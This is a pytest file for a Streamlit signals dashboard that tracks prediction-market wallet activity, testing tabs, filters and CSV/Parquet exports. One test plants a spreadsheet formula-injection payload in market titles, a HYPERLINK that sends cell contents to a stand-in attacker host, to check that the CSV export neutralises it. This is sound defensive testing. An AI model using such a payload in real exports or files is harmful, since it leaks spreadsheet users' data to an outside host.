import psycopg

from dashboards.signal_types import SIGNAL_TYPES
from tests.support.apptest import open_page


def _tab_frames(at):
    return [df.value for df in at.dataframe]


def test_one_explorer_per_signal_table_with_export(world):
    at = open_page("signals")
    assert [t.label for t in at.tabs] == [k.label for k in SIGNAL_TYPES]
    with psycopg.connect(world.url) as conn:
        for kind, frame in zip(SIGNAL_TYPES, _tab_frames(at), strict=True):
            alert_worthy = conn.execute(
                f"select count(*) from {kind.table} where suppressed_reason is null"
            ).fetchone()[0]
            assert len(frame) == alert_worthy > 0, kind.table
            assert frame.columns[1] in ("market", "evidence_words")
    assert len(at.get("download_button")) == 2 * len(SIGNAL_TYPES)  # CSV and Parquet per table


def test_suppressed_signals_show_their_reason(world):
    at = open_page("signals")
    at.selectbox(key="fresh_wallet_trades_suppressed").set_value("only").run()
    frame = _tab_frames(at)[0]
    assert frame["suppressed_reason"].tolist() == ["market liquidity below $25,000"]
    assert frame.iloc[0]["evidence_words"].startswith(
        "wallet first active 30 h before this $11,000 buy of Yes"
    )
    at.selectbox(key="fresh_wallet_trades_suppressed").set_value("show").run()
    assert len(_tab_frames(at)[0]) == 3


def test_text_filter_and_summary_first(world):
    at = open_page("signals")
    at.text_input(key="fresh_wallet_trades_filter").input("day before resolution").run()
    frame = _tab_frames(at)[0]
    assert frame["evidence_words"].tolist() == ["new wallet bet $15,500 on YES a day before resolution"]


def test_csv_export_neutralises_formulas_from_upstream_titles(world, monkeypatch):
    import csv
    import io

    import streamlit

    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    with psycopg.connect(world.url, autocommit=True) as conn:
        conn.execute("update markets set question = %s", (formula,))
    exported: dict[str, bytes] = {}
    real = streamlit.download_button

    def recording(label, data, *args, **kwargs):
        exported[kwargs["file_name"]] = data
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", recording)
    open_page("signals")

    rows = list(csv.DictReader(io.StringIO(exported["fresh_wallet_trades.csv"].decode())))
    assert rows and all(r["market"] == "'" + formula for r in rows)
    for name, data in exported.items():
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(data.decode())):
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row


def test_parquet_export_holds_the_rows_shown(world, monkeypatch):
    import io

    import pyarrow.parquet as pq
    import streamlit

    exported: dict[str, bytes] = {}
    real = streamlit.download_button

    def recording(label, data, *args, **kwargs):
        exported[kwargs["file_name"]] = data
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", recording)
    monkeypatch.setenv("PM_INTEL_API_URL", "http://127.0.0.1:8502")
    at = open_page("signals")
    table = pq.read_table(io.BytesIO(exported["fresh_wallet_trades.parquet"]))
    assert table.column("signal_key").to_pylist() == _tab_frames(at)[0]["signal_key"].tolist()
    assert any("/v1/signals/fresh_wallet_trades/export" in c.value for c in at.caption)
